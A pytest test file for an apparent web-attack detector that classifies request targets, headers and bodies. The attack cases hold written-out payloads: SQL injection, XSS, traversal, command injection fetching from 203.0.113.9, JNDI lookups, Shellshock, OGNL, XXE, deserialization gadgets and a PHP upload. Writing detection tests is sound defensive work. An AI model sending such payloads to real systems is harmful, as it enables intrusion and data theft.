"""Web requests are judged by what they carry; everyday ones carry nothing."""

import base64

import pytest

from collector.decoders.web_judging import judge_request


def judged(
    target: bytes, body: bytes = b"", method: bytes = b"GET", **fields: str
) -> tuple[str, str]:
    headers = {name.replace("_", "-"): value for name, value in fields.items()}
    return judge_request(method, target, headers, body)


@pytest.mark.parametrize(
    ("target", "attack"),
    [
        (b"/list?id=1%27+or+%271%27%3D%271", "sql_injection"),
        (b"/list?id=1+UNION/**/ALL+SELECT+null,version()", "sql_injection"),
        (b"/list?id=7+AND+1%3D1", "sql_injection"),
        (b"/list?id=1;waitfor+delay+%270:0:5%27--", "sql_injection"),
        (b"/q?name=%3Cscript%3Ealert(1)%3C/script%3E", "script_injection"),
        (b"/q?name=%22%3E%3Cimg+src=x+onerror=alert(1)%3E", "script_injection"),
        (b"/view?page=..%2f..%2f..%2fetc%2fpasswd", "traversal"),
        (b"/static/%252e%252e/%252e%252e/secret", "traversal"),
        (b"/view?page=php://filter/convert.base64-encode/resource=index", "traversal"),
        (b"/ping?host=127.0.0.1;cat+/etc/issue", "command_injection"),
        (b"/ping?host=a%7Cwhoami", "command_injection"),
        (b"/x?c=%24%28curl%20http://203.0.113.9/a%29", "command_injection"),
        (b"/a?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "jndi"),
        (b"/a?x=$%7B$%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D", "jndi"),
        (b"/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", "expression"),
        (b"/a?class.module.classLoader.resources.context.parent=x", "expression"),
        (b"/a?x={{7*7}}", "expression"),
    ],
)
def test_targets_that_attack(target: bytes, attack: str) -> None:
    assert judged(target)[0] == attack


@pytest.mark.parametrize(
    "target",
    [
        b"/wado?requestType=WADO&studyUID=1.2.840.113619.2&contentType=image%2Fjpeg",
        b"/search?q=select+a+doctor+from+the+list&id=7&ls=1",
        b"/search?q=%E5%B1%B1%E7%94%B0+%26+%E7%94%B0%E4%B8%AD%27s+union+meeting",
        b"/cb?redirect_uri=https%3A%2F%2Femr.example%2Fa%3Fb%3D1%26c%3D2&state=%7B%22a%22%3A1%7D",
        b"/a;jsessionid=0A1B2C?order=name&sort=asc&or=1",
        b"/report?from=2026-01-01&to=2026-01-31&type=cat&id=5;next",
        b"/style/../img/logo.png?v=(1)",
        b"/jquery?callback=jQuery1112_1448&_=144&filter=age%3E10%20and%20ward%3D3",
    ],
)
def test_everyday_targets_carry_nothing(target: bytes) -> None:
    assert judged(target) == ("", "")


def test_headers_and_bodies_are_judged_too() -> None:
    assert judged(b"/", user_agent="() { :;}; /bin/bash -c id")[0] == "shellshock"
    assert judged(b"/", x_api_version="${jndi:rmi://203.0.113.9/x}")[0] == "jndi"
    struts = "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}.multipart/form-data"
    assert judged(b"/", content_type=struts)[0] == "expression"
    form = {"content_type": "application/x-www-form-urlencoded"}
    assert judged(b"/login", b"user=admin%27--+&pass=x", b"POST", **form)[0] == "sql_injection"
    assert judged(b"/login", b"user=yamada&pass=a%27b%3B%23c", b"POST", **form) == ("", "")
    xml = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///c:/a">]><a>&x;</a>'
    assert judged(b"/soap", xml, b"POST", content_type="text/xml")[0] == "entity"


def test_browsers_write_much_that_looks_alike() -> None:
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    cookie = "id='1'; or=1; cat=2; sh=3; x=<script>"
    assert judged(b"/", user_agent=agent, cookie=cookie) == ("", "")


def test_crafted_objects_and_uploads() -> None:
    gadget = b"\xac\xed\0\x05sr\0.org.apache.commons.collections.functors.InvokerTransformer"
    assert judged(b"/inv", gadget, b"POST")[0] == "deserialization"
    cookie = "s=" + base64.b64encode(gadget).decode()
    assert judged(b"/", cookie=cookie)[0] == "deserialization"
    assert judged(b"/inv", b"\xac\xed\0\x05sr\0\x11java.util.HashMap", b"POST") == ("", "")
    part = b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php'
    assert judged(b"/up", part, b"POST", content_type="multipart/form-data")[0] == "upload"
    assert judged(b"/up", part.replace(b".php", b".pdf").replace(b"<?php", b"%PDF"), b"POST") == (
        "",
        "",
    )
    assert judged(b"/shell.jsp/", b"x", b"PUT")[0] == "upload"


def test_no_long_number_stays_in_the_excerpt() -> None:
    attack, excerpt = judged(b"/p?id=00123456%27+or+00123456%3D00123456")
    assert attack == "sql_injection"
    assert "123456" not in excerpt
